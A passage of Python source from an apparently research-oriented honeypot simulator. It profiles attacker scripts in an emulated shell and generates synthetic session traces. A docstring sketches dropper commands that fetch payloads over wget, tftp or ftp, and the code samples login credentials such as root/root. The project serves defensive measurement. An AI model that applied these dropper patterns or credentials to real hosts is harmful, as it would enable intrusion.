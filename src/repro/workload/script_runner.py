"""Execute interaction scripts once against a real honeypot.

The trace generator stamps millions of sessions, but the *content* of every
distinct interaction — recorded command strings, URIs, file hashes, and
execution timing — comes from actually running the script through the
honeypot's session state machine exactly once.  The resulting
:class:`ScriptProfile` is then reused for every session of that campaign.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from repro.agents.scripts import ScriptKind, ScriptTemplate
from repro.honeypot.filesystem import FakeFilesystem
from repro.honeypot.honeypot import Honeypot, HoneypotConfig
from repro.honeypot.protocol import Protocol
from repro.honeypot.session import SessionConfig
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.resolver import StaticPayloadResolver
from repro.honeypot.shell.shell import EmulatedShell
from repro.obs.trace import use_tracer
from repro.simulation.engine import Event, SimulationEngine

#: Seconds of "typing time" charged per input line when profiling.
THINK_TIME_PER_LINE = 2.5


@dataclass(frozen=True)
class ScriptProfile:
    """What one execution of a script produces, ready for bulk stamping."""

    kind: ScriptKind
    token: str
    commands: Tuple[str, ...]
    uris: Tuple[str, ...]
    hashes: Tuple[str, ...]  # unique, in first-seen order
    exec_seconds: float  # think time + download transfer time
    download_seconds: float

    @property
    def primary_hash(self) -> Optional[str]:
        return self.hashes[0] if self.hashes else None

    @property
    def creates_files(self) -> bool:
        return bool(self.hashes)


class ScriptRunner:
    """Profiles scripts through a dedicated reference honeypot."""

    def __init__(self) -> None:
        self.resolver = StaticPayloadResolver()
        self._honeypot = Honeypot(
            HoneypotConfig(
                honeypot_id="profiler",
                ip=0x7F000001,
                country="US",
                asn=0,
                session_config=SessionConfig(),
            ),
            resolver=self.resolver,
        )
        self._cache: Dict[Tuple, ScriptProfile] = {}

    def profile(self, template: ScriptTemplate) -> ScriptProfile:
        """Run ``template`` once (cached) and return its profile.

        Profiling runs with the flight recorder silenced: the reference
        honeypot session is a per-process measurement detail (cached, so a
        second worker legitimately re-profiles), and its events would make
        the workload trace worker-count-variant.

        This is the fast path: the script runs straight through the
        emulated shell, skipping the event engine and session state
        machine, which only wrap the shell with fixed timestamps during
        profiling.  :meth:`profile_via_engine` keeps the full-machinery
        reference; a differential test holds the two identical.
        """
        key = (template.kind, template.token, tuple(template.lines))
        cached = self._cache.get(key)
        if cached is not None:
            return cached
        with use_tracer(None):
            profile = self._profile_fast(template)
        self._cache[key] = profile
        return profile

    def _profile_fast(self, template: ScriptTemplate) -> ScriptProfile:
        """Profile by driving the emulated shell directly.

        Replays exactly what the engine-driven reference does to the
        shell: login at t=1, one input line every ``THINK_TIME_PER_LINE``
        seconds starting at t=2, stop when a line requests exit.  Command
        records, URI ordering, hash ordering and download durations are
        identical because the shell is the only machinery that produces
        them.
        """
        if template.dropper_uri and template.payload is not None:
            self._register_payload_uris(template)

        context = ShellContext(fs=FakeFilesystem(), resolver=self.resolver)
        shell = EmulatedShell(context)
        commands: List[str] = []
        uris: List[str] = []
        unique_hashes: List[str] = []
        when = 2.0
        for line in template.lines:
            context.now = when
            result = shell.execute(line)
            for record in result.commands:
                commands.append(record.text)
                for uri in record.uris:
                    if uri not in uris:
                        uris.append(uri)
            for change in result.file_changes:
                if change.sha256 not in unique_hashes:
                    unique_hashes.append(change.sha256)
            when += THINK_TIME_PER_LINE
            if result.exit_requested:
                # The session closed on the client's `exit`: the rest of
                # the typed input never arrives.
                break
        download_seconds = sum(
            d.duration for d in context.downloads if d.success
        )
        return ScriptProfile(
            kind=template.kind,
            token=template.token,
            commands=tuple(commands),
            uris=tuple(uris),
            hashes=tuple(unique_hashes),
            exec_seconds=len(template.lines) * THINK_TIME_PER_LINE + download_seconds,
            download_seconds=download_seconds,
        )

    def profile_via_engine(self, template: ScriptTemplate) -> ScriptProfile:
        """Reference profile through the full session/event machinery.

        Uncached and an order of magnitude slower than :meth:`profile`;
        kept as the differential oracle for the fast path.
        """
        with use_tracer(None):
            return self._profile_uncached(template)

    def _profile_uncached(self, template: ScriptTemplate) -> ScriptProfile:
        if template.dropper_uri and template.payload is not None:
            self._register_payload_uris(template)

        # Drive the reference session through the event engine rather than
        # with sequential calls. The profiler is the one honeypot
        # interaction every bulk run performs, so this keeps the event loop
        # on the pure-generation path too; timestamps are identical to the
        # old sequential schedule, so profiles are unchanged.
        engine = SimulationEngine()
        session = self._honeypot.accept(
            client_ip=0x7F000002, client_port=40000, dst_port=22, now=0.0
        )
        end = 2.0 + len(template.lines) * THINK_TIME_PER_LINE
        line_events: List[Event] = []

        def feed(index: int, line: str, when: float):
            def action() -> None:
                if session.is_closed:
                    # Script self-terminated (e.g. an `exit` line): the
                    # rest of the typed input never arrives.
                    for pending in line_events[index + 1:]:
                        pending.cancel()
                    disconnect_event.cancel()
                    return
                session.input_line(line, now=when)
            return action

        def disconnect() -> None:
            if not session.is_closed:
                session.client_disconnect(end)

        engine.schedule_at(
            1.0,
            lambda: session.try_login("root", "profiling-pass", now=1.0),
            label="login",
        )
        when = 2.0
        for index, line in enumerate(template.lines):
            line_events.append(
                engine.schedule_at(when, feed(index, line, when), label="input")
            )
            when += THINK_TIME_PER_LINE
        disconnect_event = engine.schedule_at(end, disconnect, label="disconnect")
        engine.run()
        summary = session.summary()
        self._honeypot.reap(end + 1.0)

        unique_hashes: List[str] = []
        for h in summary.file_hashes:
            if h not in unique_hashes:
                unique_hashes.append(h)
        download_seconds = sum(
            d.duration for d in session.shell_context.downloads if d.success
        )
        return ScriptProfile(
            kind=template.kind,
            token=template.token,
            commands=tuple(summary.commands),
            uris=tuple(summary.uris),
            hashes=tuple(unique_hashes),
            exec_seconds=len(template.lines) * THINK_TIME_PER_LINE + download_seconds,
            download_seconds=download_seconds,
        )

    def _register_payload_uris(self, template: ScriptTemplate) -> None:
        """Register the campaign payload under every URI the script uses.

        Dropper scripts name fallback transports (``wget X || tftp ...``)
        that resolve to different URIs for the same payload; registering the
        payload under each keeps the recorded hash identical across
        transports — the property the farm relies on to correlate a
        campaign.
        """
        payload = template.payload
        uri = template.dropper_uri
        self.resolver.register(uri, payload)
        # Derive the busybox-tftp form of the same fetch.
        if uri and uri.startswith("http://"):
            rest = uri[len("http://"):]
            host, _, path = rest.partition("/")
            filename = path.rsplit("/", 1)[-1]
            if filename:
                self.resolver.register(f"tftp://{host}/{filename}", payload)
                self.resolver.register(f"ftp://{host}/{filename}", payload)
