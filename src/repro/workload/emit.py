"""Session emission helpers shared by background and campaign generation.

Wraps the store builder with pre-interned credential / version / country
tables so the per-day emission loops only shuffle integer ids around.
"""

from __future__ import annotations

from typing import Sequence, Tuple

import numpy as np

from repro.agents.credentials import (
    FAILED_PASSWORDS,
    FAILED_USERNAMES,
    SUCCESSFUL_PASSWORDS,
)
from repro.honeypot.protocol import COMMON_CLIENT_VERSIONS
from repro.simulation.rng import RngStream, weight_cdf
from repro.store.store import HashIdsArg, StoreBuilder


class SessionEmitter:
    """Holds the builder plus interned lookup tables for fast emission."""

    def __init__(self, builder: StoreBuilder, rng: RngStream):
        self.builder = builder
        self.rng = rng

        self.success_pw_ids = np.array(
            [builder.passwords.intern(p) for p, _ in SUCCESSFUL_PASSWORDS],
            dtype=np.int32,
        )
        w = np.array([weight for _, weight in SUCCESSFUL_PASSWORDS], dtype=float)
        self.success_pw_weights = w / w.sum()

        self.fail_pw_ids = np.array(
            [builder.passwords.intern(p) for p, _ in FAILED_PASSWORDS], dtype=np.int32
        )
        w = np.array([weight for _, weight in FAILED_PASSWORDS], dtype=float)
        self.fail_pw_weights = w / w.sum()

        self.fail_user_ids = np.array(
            [builder.usernames.intern(u) for u, _ in FAILED_USERNAMES], dtype=np.int32
        )
        w = np.array([weight for _, weight in FAILED_USERNAMES], dtype=float)
        self.fail_user_weights = w / w.sum()

        self.root_id = builder.usernames.intern("root")
        self.root_pw_id = builder.passwords.intern("root")

        self.version_ids = np.array(
            [builder.versions.intern(v) for v in COMMON_CLIENT_VERSIONS],
            dtype=np.int32,
        )

        # Precomputed inverse CDFs: choice_indices(cdf=...) draws the exact
        # same values as the p= spelling while skipping the per-call cumsum.
        self._success_pw_cdf = weight_cdf(self.success_pw_weights)
        self._fail_pw_cdf = weight_cdf(self.fail_pw_weights)
        self._fail_user_cdf = weight_cdf(self.fail_user_weights)

    # -- samplers -------------------------------------------------------------

    def success_passwords(self, rng: RngStream, n: int) -> np.ndarray:
        idx = rng.choice_indices(len(self.success_pw_ids), size=n,
                                 cdf=self._success_pw_cdf)
        return self.success_pw_ids[np.asarray(idx)]

    def fail_credentials(self, rng: RngStream, n: int) -> Tuple[np.ndarray, np.ndarray]:
        """(username_ids, password_ids) for failing attempts.

        Roughly half the failures use a non-root username; the rest are
        root with the rejected password.
        """
        non_root = rng.random_array(n) < 0.55
        users = np.full(n, self.root_id, dtype=np.int32)
        idx = rng.choice_indices(len(self.fail_user_ids), size=n,
                                 cdf=self._fail_user_cdf)
        users[non_root] = self.fail_user_ids[np.asarray(idx)][non_root]
        passwords = np.full(n, self.root_pw_id, dtype=np.int32)
        idx = rng.choice_indices(len(self.fail_pw_ids), size=n,
                                 cdf=self._fail_pw_cdf)
        passwords[non_root] = self.fail_pw_ids[np.asarray(idx)][non_root]
        return users, passwords

    def client_versions(self, rng: RngStream, n: int, protocol: np.ndarray) -> np.ndarray:
        """SSH client-version ids (-1 for Telnet / silent clients)."""
        versions = np.full(n, -1, dtype=np.int32)
        is_ssh = protocol == 0
        offered = is_ssh & (rng.random_array(n) < 0.72)
        count = int(offered.sum())
        if count:
            idx = rng.choice_indices(len(self.version_ids), size=count)
            versions[offered] = self.version_ids[np.asarray(idx)]
        return versions

    # -- emission --------------------------------------------------------------

    def append_block(
        self,
        start_time: np.ndarray,
        duration: np.ndarray,
        honeypot: Sequence[int],
        protocol: np.ndarray,
        client_ip: np.ndarray,
        client_asn: np.ndarray,
        client_country: np.ndarray,
        n_attempts: np.ndarray,
        login_success: np.ndarray,
        script_id: Sequence[int],
        password_id: np.ndarray,
        username_id: np.ndarray,
        hash_ids: HashIdsArg,
        close_reason: np.ndarray,
        version_id: np.ndarray,
    ) -> None:
        # Pure pass-through: the builder adopts ndarrays as column chunks,
        # so no `.tolist()` round-trip and no per-element re-coercion.
        self.builder.append_block(
            start_time=start_time,
            duration=duration,
            honeypot_id=honeypot,
            protocol=protocol,
            client_ip=client_ip,
            client_asn=client_asn,
            client_country_id=client_country,
            n_attempts=n_attempts,
            login_success=login_success,
            script_id=script_id,
            password_id=password_id,
            username_id=username_id,
            hash_ids=hash_ids,
            close_reason_id=close_reason,
            version_id=version_id,
        )

    def append_row(
        self,
        start_time: float,
        duration: float,
        honeypot_id: int,
        protocol: int,
        client_ip: int,
        client_asn: int,
        client_country_id: int,
        n_attempts: int,
        login_success: bool,
        script_id: int = -1,
        password_id: int = -1,
        username_id: int = -1,
        hash_ids: Tuple[int, ...] = (),
        close_reason_id: int = 0,
        version_id: int = -1,
    ) -> None:
        """One pre-interned scalar row (the singleton-writer path).

        The scalar emitter forwards straight to the builder; the block
        emitter overrides this to buffer the row into its pending block so
        singleton sessions ride the same single flush as everything else.
        """
        self.builder.append_interned(
            start_time=start_time,
            duration=duration,
            honeypot_id=honeypot_id,
            protocol=protocol,
            client_ip=client_ip,
            client_asn=client_asn,
            client_country_id=client_country_id,
            n_attempts=n_attempts,
            login_success=login_success,
            script_id=script_id,
            password_id=password_id,
            username_id=username_id,
            hash_ids=hash_ids,
            close_reason_id=close_reason_id,
            version_id=version_id,
        )

    def flush(self) -> None:
        """No-op on the scalar path (rows reach the builder immediately)."""
