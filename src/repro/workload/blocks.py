"""Vectorized block session engine.

The scalar emission path hands every per-day session block straight to the
store builder: correct, but thousands of small day-blocks mean thousands of
small column extends and hash conversions.  The block engine buffers those
blocks (and the stray scalar rows from singleton writers) in emission order
and flushes them as ONE ``append_block`` per builder — one concatenate per
column, one CSR hash adoption — without touching interning order or any RNG
stream, so the frozen store is byte-identical to the scalar path.

Selection is by environment: ``REPRO_EMIT_PATH=block`` (the default) or
``scalar``.  :func:`make_emitter` is the single construction seam used by
the serial generator and the shard workers alike.
"""

from __future__ import annotations

import os
from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np

from repro.obs import get_metrics, inc as _metric_inc
from repro.simulation.rng import RngStream, weight_cdf
from repro.store.store import HashBlockCsr, HashIdsArg, StoreBuilder
from repro.workload.emit import SessionEmitter

_EMIT_PATHS = ("block", "scalar")

#: Builder column names in ``append_block`` keyword order (hashes aside).
_COLUMNS = (
    "start_time",
    "duration",
    "honeypot_id",
    "protocol",
    "client_ip",
    "client_asn",
    "client_country_id",
    "n_attempts",
    "login_success",
    "script_id",
    "password_id",
    "username_id",
    "close_reason_id",
    "version_id",
)


def emit_path() -> str:
    """The selected emission path: ``"block"`` (default) or ``"scalar"``."""
    path = os.environ.get("REPRO_EMIT_PATH", "block").strip().lower() or "block"
    if path not in _EMIT_PATHS:
        raise ValueError(
            f"REPRO_EMIT_PATH={path!r} is not one of {_EMIT_PATHS}"
        )
    return path


def make_emitter(builder: StoreBuilder, rng: RngStream) -> SessionEmitter:
    """The emitter for the configured path (callers must flush() at the end)."""
    if emit_path() == "block":
        return BlockEmitter(builder, rng)
    return SessionEmitter(builder, rng)


class TransitionTable:
    """A categorical state-transition row with its CDF precomputed.

    Wraps a fixed weight vector (e.g. the auth-outcome or close-reason
    distribution of a session phase) so batched draws skip the per-call
    cumsum.  ``sample`` draws the exact same values as
    ``rng.choice_indices(n, size, p=weights)`` — the CDF spelling is a
    pure precomputation, not a different distribution.
    """

    __slots__ = ("weights", "cdf", "n")

    def __init__(self, weights: Sequence[float]):
        self.weights = np.asarray(weights, dtype=np.float64)
        self.cdf = weight_cdf(self.weights)
        self.n = int(self.weights.size)

    def sample(self, rng: RngStream, size: int) -> np.ndarray:
        """``size`` next-state indices in ``[0, n)``."""
        return np.asarray(rng.choice_indices(self.n, size=size, cdf=self.cdf))


def _hash_piece(hash_ids: HashIdsArg, n: int) -> Tuple[np.ndarray, Optional[np.ndarray]]:
    """``(lengths, values)`` arrays for one buffered block's hash spec.

    Mirrors ``StoreBuilder._append_block_hashes`` exactly; ``values`` is
    None when no row of the piece carries hashes.
    """
    if hash_ids is None:
        return np.zeros(n, np.int64), None
    if isinstance(hash_ids, HashBlockCsr):
        if len(hash_ids.lengths) != n:
            raise ValueError("append_block sequences must share one length")
        return hash_ids.lengths, (hash_ids.values if len(hash_ids.values) else None)
    if isinstance(hash_ids, tuple):
        k = len(hash_ids)
        if not k:
            return np.zeros(n, np.int64), None
        return (
            np.full(n, k, np.int64),
            np.tile(np.asarray(hash_ids, np.int64), n),
        )
    if len(hash_ids) != n:
        raise ValueError("append_block sequences must share one length")
    if not any(hash_ids):
        return np.zeros(n, np.int64), None
    lengths = np.fromiter((len(t) for t in hash_ids), np.int64, count=n)
    values = np.fromiter(
        (h for t in hash_ids for h in t), np.int64, count=int(lengths.sum())
    )
    return lengths, values


class _RowRun:
    """Consecutive ``append_row`` calls buffered as per-column lists."""

    __slots__ = ("cols", "hash_lists", "n")

    def __init__(self) -> None:
        self.cols: Dict[str, list] = {name: [] for name in _COLUMNS}
        self.hash_lists: List[Tuple[int, ...]] = []
        self.n = 0


class BlockEmitter(SessionEmitter):
    """Session emitter that defers builder writes until :meth:`flush`.

    Day-blocks and scalar rows are buffered in emission order — each column
    keeps its own list of per-piece arrays, so flush is one concatenate per
    column plus one CSR hash block, regardless of how many day-blocks were
    emitted.  Interning and RNG consumption happen at exactly the same
    points as the scalar path, so the built store is byte-identical.
    """

    def __init__(self, builder: StoreBuilder, rng: RngStream):
        super().__init__(builder, rng)
        # Per-column lists of buffered array pieces, all aligned in
        # emission order; hash specs ride alongside as (spec, n) pairs.
        self._col_parts: Dict[str, List] = {name: [] for name in _COLUMNS}
        self._hash_specs: List[Tuple[HashIdsArg, int]] = []
        self._run: Optional[_RowRun] = None
        self._pending_rows = 0

    # -- buffering -------------------------------------------------------------

    def _close_run(self) -> None:
        """Materialise the open scalar-row run into the column part lists."""
        run = self._run
        if run is None:
            return
        self._run = None
        cols = self._col_parts
        for name in _COLUMNS:
            cols[name].append(run.cols[name])
        self._hash_specs.append((run.hash_lists, run.n))

    def append_block(
        self,
        start_time: np.ndarray,
        duration: np.ndarray,
        honeypot: Sequence[int],
        protocol: np.ndarray,
        client_ip: np.ndarray,
        client_asn: np.ndarray,
        client_country: np.ndarray,
        n_attempts: np.ndarray,
        login_success: np.ndarray,
        script_id: Sequence[int],
        password_id: np.ndarray,
        username_id: np.ndarray,
        hash_ids: HashIdsArg,
        close_reason: np.ndarray,
        version_id: np.ndarray,
    ) -> None:
        n = len(start_time)
        if not n:
            return
        self._close_run()
        cols = self._col_parts
        cols["start_time"].append(start_time)
        cols["duration"].append(duration)
        cols["honeypot_id"].append(honeypot)
        cols["protocol"].append(protocol)
        cols["client_ip"].append(client_ip)
        cols["client_asn"].append(client_asn)
        cols["client_country_id"].append(client_country)
        cols["n_attempts"].append(n_attempts)
        cols["login_success"].append(login_success)
        cols["script_id"].append(script_id)
        cols["password_id"].append(password_id)
        cols["username_id"].append(username_id)
        cols["close_reason_id"].append(close_reason)
        cols["version_id"].append(version_id)
        self._hash_specs.append((hash_ids, n))
        self._pending_rows += n
        _metric_inc("emit.block.buffered_blocks")

    def append_row(self, **kwargs) -> None:  # type: ignore[override]
        run = self._run
        if run is None:
            run = self._run = _RowRun()
        cols = run.cols
        for name in _COLUMNS:
            if name in kwargs:
                cols[name].append(kwargs[name])
            else:
                cols[name].append(_ROW_DEFAULTS[name])
        run.hash_lists.append(tuple(kwargs.get("hash_ids", ())))
        run.n += 1
        self._pending_rows += 1
        _metric_inc("emit.block.buffered_rows")

    # -- flush -----------------------------------------------------------------

    def flush(self) -> None:
        """Write every buffered piece to the builder as one block."""
        self._close_run()
        if not self._pending_rows:
            return
        with get_metrics().span("emit.block.flush"):
            n_total = self._pending_rows
            self._pending_rows = 0

            columns: Dict[str, np.ndarray] = {}
            for name in _COLUMNS:
                parts = self._col_parts[name]
                self._col_parts[name] = []
                dtype = self.builder._cols[
                    _INTERNAL_COLUMN.get(name, name)
                ].dtype
                columns[name] = (
                    np.asarray(parts[0], dtype=dtype)
                    if len(parts) == 1
                    else np.concatenate(parts, dtype=dtype, casting="unsafe")
                )

            specs, self._hash_specs = self._hash_specs, []
            length_parts: List[np.ndarray] = []
            value_parts: List[np.ndarray] = []
            for spec, n in specs:
                lengths, values = _hash_piece(spec, n)
                length_parts.append(lengths)
                if values is not None:
                    value_parts.append(values)
            hash_block = HashBlockCsr(
                values=(
                    np.concatenate(value_parts)
                    if value_parts
                    else np.zeros(0, np.int64)
                ),
                lengths=(
                    length_parts[0]
                    if len(length_parts) == 1
                    else np.concatenate(length_parts)
                ),
            )

            self.builder.append_block(hash_ids=hash_block, **columns)
            _metric_inc("emit.block.flushes")
            _metric_inc("emit.block.rows", n_total)


#: append_block keyword -> internal ``StoreBuilder._cols`` key, for the
#: three columns whose internal name drops the ``_id`` suffix.
_INTERNAL_COLUMN = {
    "honeypot_id": "honeypot",
    "client_country_id": "client_country",
    "close_reason_id": "close_reason",
}

_ROW_DEFAULTS = {
    "script_id": -1,
    "password_id": -1,
    "username_id": -1,
    "close_reason_id": 0,
    "version_id": -1,
}
