"""Client target sets: which honeypots each client contacts.

A client's *target set* is fixed over its lifetime (size = the client's
breadth attribute), sampled by honeypot client-attractiveness; individual
sessions then choose within the target set by session-attractiveness.
Using two different weight vectors is what decorrelates "most sessions"
from "most clients" per honeypot (paper Figs 2 vs 14).
"""

from __future__ import annotations

import bisect
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence

import numpy as np

from repro.geo.continents import Continent, continent_of
from repro.simulation.rng import RngStream


@dataclass
class TargetSet:
    """One client's honeypot targets and in-set selection distribution."""

    pots: np.ndarray  # honeypot indices
    cumulative: np.ndarray  # cumulative probability for in-set choice

    def choose(self, u: float) -> int:
        """Pick a pot index for one session given uniform draw ``u``."""
        return int(self.pots[bisect.bisect_left(self.cumulative, u)])

    def choose_many(self, u: np.ndarray) -> np.ndarray:
        """Vectorised :meth:`choose` for a batch of uniform draws.

        ``searchsorted(side="left")`` is exactly ``bisect_left``, so this
        returns the same pots the scalar path would, draw for draw.  An
        empty draw batch returns an empty array; an empty target set is an
        error rather than an out-of-bounds read.
        """
        u = np.asarray(u)
        if u.size == 0:
            return self.pots[:0]
        if self.pots.size == 0:
            raise ValueError("cannot choose from an empty target set")
        return self.pots[np.searchsorted(self.cumulative, u, side="left")]


class TargetIndex:
    """Builds and caches target sets for the whole population."""

    def __init__(
        self,
        rng: RngStream,
        client_weights: np.ndarray,
        session_weights: np.ndarray,
        pot_countries: Sequence[str],
    ):
        self.rng = rng
        self.client_weights = client_weights / client_weights.sum()
        self.session_weights = session_weights
        self.n_pots = len(client_weights)
        self.pot_countries = list(pot_countries)
        self.pot_continents = [continent_of(cc) for cc in pot_countries]
        self._by_continent: Dict[Continent, np.ndarray] = {}
        # dict.fromkeys dedups in first-occurrence order — set iteration
        # order here would leak the hash seed into dict insertion order.
        for continent in dict.fromkeys(self.pot_continents):
            self._by_continent[continent] = np.array(
                [i for i, c in enumerate(self.pot_continents) if c is continent],
                dtype=np.int32,
            )
        self._by_country: Dict[str, np.ndarray] = {}
        for country in dict.fromkeys(self.pot_countries):
            self._by_country[country] = np.array(
                [i for i, cc in enumerate(self.pot_countries) if cc == country],
                dtype=np.int32,
            )
        self._sets: List[Optional[TargetSet]] = []

    def pots_on_continent(self, continent: Continent) -> np.ndarray:
        return self._by_continent.get(continent, np.zeros(0, dtype=np.int32))

    def pots_in_country(self, country: str) -> np.ndarray:
        return self._by_country.get(country, np.zeros(0, dtype=np.int32))

    def build_for(self, breadths: np.ndarray) -> List[TargetSet]:
        """Build a target set per client (indexed like ``breadths``)."""
        sets: List[TargetSet] = []
        for breadth in breadths:
            sets.append(self._sample_set(int(breadth)))
        self._sets = sets
        return sets

    def _sample_set(self, breadth: int) -> TargetSet:
        breadth = max(1, min(breadth, self.n_pots))
        if breadth == self.n_pots:
            pots = np.arange(self.n_pots, dtype=np.int32)
        else:
            picked = self.rng.choice_indices(
                self.n_pots, size=breadth, p=self.client_weights, replace=False
            )
            pots = np.asarray(picked, dtype=np.int32)
        weights = self.session_weights[pots].astype(np.float64)
        cumulative = np.cumsum(weights / weights.sum())
        cumulative[-1] = 1.0
        return TargetSet(pots=pots, cumulative=cumulative)


def build_subset(
    rng: RngStream,
    n_pots_total: int,
    size: int,
    weights: np.ndarray,
) -> np.ndarray:
    """A weighted, replacement-free honeypot subset (for campaigns)."""
    size = max(1, min(size, n_pots_total))
    if size == n_pots_total:
        return np.arange(n_pots_total, dtype=np.int32)
    p = weights / weights.sum()
    picked = rng.choice_indices(n_pots_total, size=size, p=p, replace=False)
    return np.sort(np.asarray(picked, dtype=np.int32))


def subset_selector(pots: np.ndarray, session_weights: np.ndarray) -> TargetSet:
    """Session-choice structure over a fixed pot subset."""
    weights = session_weights[pots].astype(np.float64)
    cumulative = np.cumsum(weights / weights.sum())
    cumulative[-1] = 1.0
    return TargetSet(pots=pots, cumulative=cumulative)
