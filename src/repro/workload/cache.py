"""Fingerprinted on-disk cache for generated datasets.

Generation is deterministic: the same :class:`ScenarioConfig` (seed
included), pipeline choice and store format always yield the same trace.
That makes a generated dataset a pure function of its inputs, and a pure
function can be memoised on disk.  This module computes a stable
fingerprint of those inputs and keys a cache directory with it; each entry
is a full dataset bundle (``store.npz`` + ``dataset.json``) written by
:mod:`repro.workload.io`.

The cache root comes from ``--cache-dir`` on the CLI or the
``REPRO_CACHE`` environment variable.  Entries are written atomically
(save to a temp dir, then rename) and loads are corruption-tolerant: an
entry that fails to load is treated as a miss, deleted, and regenerated —
never an error.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import shutil
from pathlib import Path
from typing import Optional, Union

from repro.obs import get_metrics
from repro.store.npz import _FORMAT_VERSION as STORE_FORMAT_VERSION
from repro.workload.config import ScenarioConfig
from repro.workload.dataset import HoneyfarmDataset
from repro.workload.io import load_dataset, save_dataset

PathLike = Union[str, Path]

#: Environment variable naming the default cache root.
CACHE_ENV_VAR = "REPRO_CACHE"


def dataset_fingerprint(config: ScenarioConfig, workers: Optional[int] = None) -> str:
    """Stable hex fingerprint of everything that determines a trace.

    Covers every config field (seed included), the pipeline family, and
    the on-disk store format version.  The sharded pipeline produces the
    same trace for every worker count, so only the family — serial vs
    sharded — enters the key: ``workers=2`` and ``workers=8`` share an
    entry, while serial and sharded runs (distinct draw orders) do not.
    """
    payload = {
        "store_format_version": STORE_FORMAT_VERSION,
        "pipeline": "serial" if workers is None else "sharded",
        "config": dataclasses.asdict(config),
    }
    blob = json.dumps(payload, sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(blob.encode("utf-8")).hexdigest()[:32]


def resolve_cache_dir(explicit: Optional[PathLike] = None) -> Optional[Path]:
    """The cache root: an explicit path, else ``$REPRO_CACHE``, else None."""
    if explicit:
        return Path(explicit)
    env = os.environ.get(CACHE_ENV_VAR, "").strip()
    return Path(env) if env else None


class DatasetCache:
    """A directory of fingerprint-keyed dataset bundles."""

    def __init__(self, root: PathLike):
        self.root = Path(root)

    def entry_dir(self, fingerprint: str) -> Path:
        return self.root / fingerprint

    def load(self, fingerprint: str) -> Optional[HoneyfarmDataset]:
        """The cached dataset for ``fingerprint``, or None on a miss.

        Any failure to read an existing entry (truncated npz, bad JSON,
        schema drift) counts as a miss: the entry is deleted so the
        caller's regeneration can replace it.
        """
        metrics = get_metrics()
        directory = self.entry_dir(fingerprint)
        if not directory.is_dir():
            metrics.inc("cache.misses")
            return None
        try:
            with metrics.span("cache/load"):
                dataset = load_dataset(directory)
        except Exception:
            metrics.inc("cache.corrupt_entries")
            metrics.inc("cache.misses")
            shutil.rmtree(directory, ignore_errors=True)
            return None
        metrics.inc("cache.hits")
        metrics.inc("cache.loaded_sessions", len(dataset.store))
        return dataset

    def store(self, fingerprint: str, dataset: HoneyfarmDataset) -> Path:
        """Write ``dataset`` under ``fingerprint`` (atomic via rename)."""
        metrics = get_metrics()
        directory = self.entry_dir(fingerprint)
        staging = self.root / f".{fingerprint}.tmp"
        self.root.mkdir(parents=True, exist_ok=True)
        if staging.exists():
            shutil.rmtree(staging)
        try:
            with metrics.span("cache/save"):
                save_dataset(dataset, staging)
                if directory.exists():
                    shutil.rmtree(directory)
                staging.rename(directory)
        finally:
            if staging.exists():
                shutil.rmtree(staging, ignore_errors=True)
        metrics.inc("cache.stores")
        return directory


def as_cache(cache: Union[DatasetCache, PathLike]) -> DatasetCache:
    """Coerce a path-like or cache instance to a :class:`DatasetCache`."""
    if isinstance(cache, DatasetCache):
        return cache
    return DatasetCache(cache)
