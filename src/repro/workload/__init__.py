"""The 15-month honeyfarm scenario: configuration, temporal structure,
script execution, and the trace generator.

Two generation paths share the honeypot implementation:

* the *interactive* path (`repro.farm` + `repro.simulation.engine`) drives
  real session state machines event by event — used by tests and examples;
* the *trace* path (:mod:`repro.workload.generator`) synthesises session
  records in bulk, executing each distinct interaction script exactly once
  against a real honeypot shell to obtain its commands, URIs, hashes and
  timing, then stamping those onto the sampled sessions.  This is what
  makes paper-scale (shape-preserving, scaled-down) traces tractable.
"""

from repro.workload.config import ScenarioConfig
from repro.workload.dataset import HoneyfarmDataset
from repro.workload.generator import generate_dataset

__all__ = ["ScenarioConfig", "HoneyfarmDataset", "generate_dataset"]
