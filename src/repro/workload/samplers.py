"""Vectorised per-category field samplers.

Durations, close reasons and login-attempt counts per session category,
shaped to reproduce the paper's Figure 7 (session-duration ECDFs):

* NO_CRED / FAIL_LOG sessions are mostly closed by the client well under a
  minute; a minority of NO_CRED connections linger to the no-login timeout;
* more than 90% of NO_CMD sessions end at the three-minute idle timeout;
* CMD sessions mix client closes with a substantial idle-timeout share;
* CMD+URI sessions inherit download transfer time and can cross the
  three-minute line (the timeout resets while a download is in flight).
"""

from __future__ import annotations

from typing import Tuple

import numpy as np

from repro.honeypot.session import CloseReason
from repro.store.store import _CLOSE_REASON_IDS
from repro.simulation.rng import RngStream
from repro.workload.blocks import TransitionTable

CLOSE_CLIENT = _CLOSE_REASON_IDS[CloseReason.CLIENT_DISCONNECT.value]
CLOSE_AUTH_TIMEOUT = _CLOSE_REASON_IDS[CloseReason.AUTH_TIMEOUT.value]
CLOSE_IDLE_TIMEOUT = _CLOSE_REASON_IDS[CloseReason.IDLE_TIMEOUT.value]
CLOSE_TOO_MANY = _CLOSE_REASON_IDS[CloseReason.TOO_MANY_ATTEMPTS.value]
CLOSE_EXIT = _CLOSE_REASON_IDS[CloseReason.CLIENT_EXIT.value]

NO_LOGIN_TIMEOUT = 120.0
IDLE_TIMEOUT = 180.0

# Auth-phase attempt-count transition rows (P[1, 2, 3 attempts]), with
# their CDFs built once at import: batched draws through TransitionTable
# are value-identical to the old inline ``p=[...]`` spelling.
FAIL_LOG_ATTEMPTS = TransitionTable([0.24, 0.16, 0.60])
NO_CMD_ATTEMPTS = TransitionTable([0.72, 0.19, 0.09])
CMD_ATTEMPTS = TransitionTable([0.70, 0.20, 0.10])


def no_cred_fields(rng: RngStream, n: int) -> Tuple[np.ndarray, np.ndarray]:
    """(durations, close_reason_ids) for NO_CRED sessions."""
    u = rng.random_array(n)
    quick = 0.5 + 2.5 * rng.random_array(n)  # banner-grab and leave
    linger = np.clip(rng.exponential_array(9.0, n), 0.5, NO_LOGIN_TIMEOUT - 5.0)
    duration = np.where(u < 0.30, quick, np.where(u < 0.88, linger, NO_LOGIN_TIMEOUT))
    close = np.where(u < 0.88, CLOSE_CLIENT, CLOSE_AUTH_TIMEOUT).astype(np.uint8)
    return duration, close


def fail_log_fields(
    rng: RngStream, n: int, is_ssh: np.ndarray
